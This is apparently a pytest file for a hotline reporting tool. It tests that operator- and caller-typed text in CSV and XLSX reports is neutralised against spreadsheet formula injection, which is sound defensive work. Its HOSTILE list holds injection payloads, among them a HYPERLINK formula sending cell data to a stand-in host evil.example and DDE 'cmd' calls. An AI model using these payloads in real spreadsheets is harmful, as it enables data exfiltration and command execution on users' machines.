"""Text an operator or a caller typed (an agency given with `cases update --agency`, a
category, who opened a case) reaches the report's spreadsheets as text, never as a live
formula: read back from the files as Excel would read them. Numbers stay numbers."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from pathlib import Path

import openpyxl
import pytest

from calllog.model import Case, CaseStatus, Outcome
from hotline.report import write_report
from reports import PeriodReport
from reports.csv_files import formula_safe
from reports.figures import Report, compute_report
from tests.unit.test_report import PERIOD, SETUP, call, sample_calls

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def report() -> Report:
    opened = datetime(2026, 9, 2, 3, 0, tzinfo=UTC)
    cases = [
        Case(id=i + 1, call_id=None, category=text, opened_at=opened, opened_by=text,
             status=CaseStatus.FORWARDED, agency=text, recording=f"vm-{i}")
        for i, text in enumerate(HOSTILE)
    ]
    # a call's agency comes from the YAML, but the YAML is text people type too
    calls = [*sample_calls(), *(
        call(f"h{i}", f"2026-09-02 10:0{i}:00", Outcome.CONNECTED, 4, wait=5, talk=60,
             agency=text)
        for i, text in enumerate(HOSTILE)
    )]
    return compute_report(calls, cases, SETUP, PERIOD)


@pytest.fixture(scope="module")
def files(report: Report, tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    written = write_report(PeriodReport.of(report), tmp_path_factory.mktemp("report"),
                           ["csv", "xlsx"], details=True)
    return {path.name: path for path in written}


@pytest.mark.parametrize("name", ["report.csv", "details.csv", "details-cases.csv"])
def test_csv_cells_never_start_a_formula(files: dict[str, Path], name: str) -> None:
    text = files[name].read_bytes().decode("utf-8-sig")  # CRs as written
    rows = list(csv.reader(io.StringIO(text, newline="")))
    cells = [cell for row in rows for cell in row]
    assert all(not cell.startswith(FORMULA_START) for cell in cells)
    for text in HOSTILE:
        assert "'" + text in cells  # kept whole, marked as text (OWASP)


def test_xlsx_has_no_formula_and_keeps_the_text(files: dict[str, Path]) -> None:
    workbook = openpyxl.load_workbook(files["report.xlsx"])
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    texts = {cell.value for cell in cells if cell.data_type == "s"}
    assert {text.replace("\r", "\n") for text in HOSTILE} <= texts  # XML reads CR as LF
    numbers = [cell.value for cell in cells if cell.data_type == "n" and cell.value is not None]
    assert numbers and all(isinstance(value, int | float) for value in numbers)


@pytest.mark.parametrize(("text", "safe"), [
    ("=1+1", "'=1+1"),
    ("@A1", "'@A1"),
    ("-2+3", "'-2+3"),
    ("+84 90 123", "'+84 90 123"),
    ("\t1", "'\t1"),
    ("-12", "-12"),  # numbers stay numbers
    ("-0.625", "-0.625"),
    ("+5", "+5"),
    ("1e-3", "1e-3"),
    ("Sở Nội vụ", "Sở Nội vụ"),
    ("", ""),
])
def test_formula_safe_marks_formulas_as_text_and_leaves_numbers(text: str, safe: str) -> None:
    assert formula_safe(text) == safe
